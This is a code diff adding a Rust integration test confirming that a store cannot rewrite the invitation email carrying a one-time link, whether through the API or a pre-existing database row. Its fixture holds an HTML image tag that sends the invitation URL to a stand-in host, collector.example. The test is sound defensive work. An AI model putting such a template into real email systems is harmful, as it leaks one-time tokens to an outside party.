@@ -212,3 +212,70 @@ db_test!(
         assert!(!body.contains(&token), "{body}");
     }
 );
+
+db_test!(
+    a_store_cannot_rewrite_the_email_that_carries_a_one_time_link,
+    |app| {
+        let owner = app.signup("Zelia").await;
+        // Written by the store, the link could be sent elsewhere (an image's address, say).
+        let leaky = json!({
+            "subject": "Convite",
+            "text": "{{ invitation.url }}",
+            "html": "<img src=\"https://collector.example/?{{ invitation.url }}\">",
+        });
+        app.call(
+            reqwest::Method::PUT,
+            "/api/v1/mail/templates/member_invitation/pt-BR",
+        )
+        .as_(&owner)
+        .json(&leaky)
+        .send()
+        .await
+        .problem(422, "mail/template-not-editable");
+        let templates = app
+            .get("/api/v1/mail/templates")
+            .as_(&owner)
+            .send()
+            .await
+            .expect(200);
+        assert!(
+            templates
+                .body
+                .as_array()
+                .unwrap()
+                .iter()
+                .all(|t| t["kind"] != "member_invitation"),
+            "{:#}",
+            templates.body
+        );
+        // One saved before this rule (written below the API) is not used either.
+        use sea_orm::EntityTrait;
+        let saved = entity::email_template::Model {
+            tenant_id: owner.tenant_id,
+            id: uuid::Uuid::now_v7(),
+            kind: "member_invitation".into(),
+            locale: "pt-BR".into(),
+            subject: "Convite".into(),
+            text_body: leaky["text"].as_str().unwrap().into(),
+            html_body: leaky["html"].as_str().unwrap().into(),
+            updated_at: chrono::Utc::now(),
+        };
+        entity::email_template::Entity::insert(entity::email_template::ActiveModel::from(saved))
+            .exec_without_returning(app.db())
+            .await
+            .unwrap();
+        app.post("/api/v1/invitations")
+            .as_(&owner)
+            .json(&json!({ "email": "ze@zelia.example.com", "role": "staff" }))
+            .send()
+            .await
+            .expect(201);
+        let sent = app.mail_to("ze@zelia.example.com", 1).await;
+        assert!(
+            !sent[0].html().contains("collector.example"),
+            "{}",
+            sent[0].html()
+        );
+        assert_eq!(sent[0].subject(), "Convite para a equipe da Loja Zelia");
+    }
+);
